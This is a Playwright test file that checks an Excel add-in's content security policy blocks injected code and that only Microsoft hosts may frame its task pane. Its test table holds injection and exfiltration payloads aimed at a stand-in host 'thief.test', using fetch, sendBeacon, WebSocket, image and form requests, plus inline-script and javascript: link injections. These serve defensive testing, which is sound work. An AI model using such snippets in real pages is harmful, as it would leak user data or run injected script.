// The content security policy of webpack/_headers, in Chromium: what it stops, and who may show the pane.
import { readFileSync } from "node:fs";
import { join } from "node:path";
import type { Browser } from "playwright-core";
import { headersIn } from "../../workbench/headers-file";
import { dist } from "../support/built-files";
import { launchBrowser, openPreview, pane, serveFromDisk, type PanePage } from "./pane-page";

let browser: Browser;
let opened: PanePage;
beforeAll(async () => {
  browser = await launchBrowser();
  opened = await openPreview(browser);
  await opened.page.getByRole("tab", { name: "Prices" }).waitFor();
});
afterAll(() => browser.close());

const add = (markup: string) =>
  `document.body.insertAdjacentHTML("beforeend", ${JSON.stringify(markup)})`;
const addScript = (what: string) =>
  `document.body.append(Object.assign(document.createElement("script"), ${what}))`;

test.each([
  ["connect-src", "another address", `void fetch("https://thief.test/").catch(() => {})`],
  ["connect-src", "even its own", `void fetch("/functions.json").catch(() => {})`],
  ["connect-src", "a beacon", `navigator.sendBeacon("https://thief.test/", "40 users")`],
  ["connect-src", "a socket", `try { new WebSocket("wss://thief.test/") } catch {}`],
  ["img-src", "a picture elsewhere", `new Image().src = "https://thief.test/?40"`],
  [
    "font-src",
    "a font elsewhere",
    add(
      "<style>@font-face{font-family:f;src:url(https://thief.test/f)}</style><i style='font-family:f'>f</i>",
    ),
  ],
  [
    "style-src-elem",
    "a style sheet elsewhere",
    add("<link rel=stylesheet href=https://thief.test/s.css>"),
  ],
  ["script-src-elem", "a script elsewhere", addScript(`{ src: "https://thief.test/s.js" }`)],
  ["script-src-elem", "a script in the page", addScript(`{ textContent: "stolen = true" }`)],
  [
    "script-src-attr",
    "a script in an attribute",
    add("<img src=assets/icon-32.png onload='stolen = true'>"),
  ],
  ["script-src", "text as a script", `void setTimeout("stolen = true")`],
  [
    "script-src-elem",
    "a link that is a script",
    `${add("<a id=l href='javascript:stolen=true'>l</a>")}; l.click()`,
  ],
  ["frame-src", "a frame elsewhere", add("<iframe src=https://thief.test/></iframe>")],
  ["object-src", "an object", add("<object data=https://thief.test/o></object>")],
  [
    "worker-src",
    "a worker made of text",
    `try { new Worker(URL.createObjectURL(new Blob(["1"]))) } catch {}`,
  ],
  ["form-action", "a form", `${add("<form id=f action=https://thief.test/></form>")}; f.submit()`],
  ["base-uri", "another base", add("<base href=https://thief.test/>")],
])("%s stops %s", async (directive, _, attack) => {
  const { page, faults } = opened;
  const before = faults.length;
  await page.evaluate(attack);
  for (let i = 0; i < 100 && faults.length === before; i++) await page.waitForTimeout(20);
  expect(faults.slice(before)).toEqual(
    expect.arrayContaining([expect.stringMatching(new RegExp(`^${directive} stops `))]),
  );
  expect(faults.filter((fault) => fault.startsWith("asked for"))).toEqual([]);
  expect(await page.evaluate("typeof stolen")).toBe("undefined");
});

test("the guide for deploying quotes it word for word", () => {
  const guide = readFileSync(join(dist, "../docs/deploying.md"), "utf8");
  for (const value of Object.values(headersIn(dist))) expect(guide).toContain(`: ${value}\n`);
});

test("scripts come from the add-in and from Office.js alone, and none from text", () => {
  const policy = headersIn(dist)["content-security-policy"];
  const directives = policy.split("; ").map((each) => each.split(" "));
  const sources = new Map(directives.map(([name, ...values]) => [name, values]));
  expect(sources.get("default-src")).toEqual(["'none'"]);
  expect(sources.get("script-src")).toEqual(["'self'", "https://appsforoffice.microsoft.com"]);
  expect([...sources.values()].flat()).not.toContain("'unsafe-eval'");
});

test.each([
  ["https://euc-excel.officeapps.live.com", true],
  ["https://contoso-my.sharepoint.com", true],
  ["https://onedrive.live.com", true],
  ["https://excel.cloud.microsoft", true],
  ["https://www.office.com", true],
  ["https://www.microsoft365.com", true],
  ["https://thief.test", false],
  ["https://officeapps.live.com.thief.test", false],
])("a page of %s may show the pane in a frame: %s", async (host, allowed) => {
  const context = await browser.newContext();
  await serveFromDisk(context, []);
  await context.route(`${host}/`, (route) =>
    route.fulfill({
      body: `<iframe src="${pane}/taskpane.html"></iframe>`,
      contentType: "text/html",
    }),
  );
  const page = await context.newPage();
  await page.goto(`${host}/`);
  // Without Excel around it office.js stays silent there; what counts is whether the page is shown at all.
  const shown = page.frameLocator("iframe").locator("#pane").waitFor({ timeout: 5_000 });
  const isShown = await shown.then(
    () => true,
    () => false,
  );
  expect(isShown).toBe(allowed);
  await context.close();
});
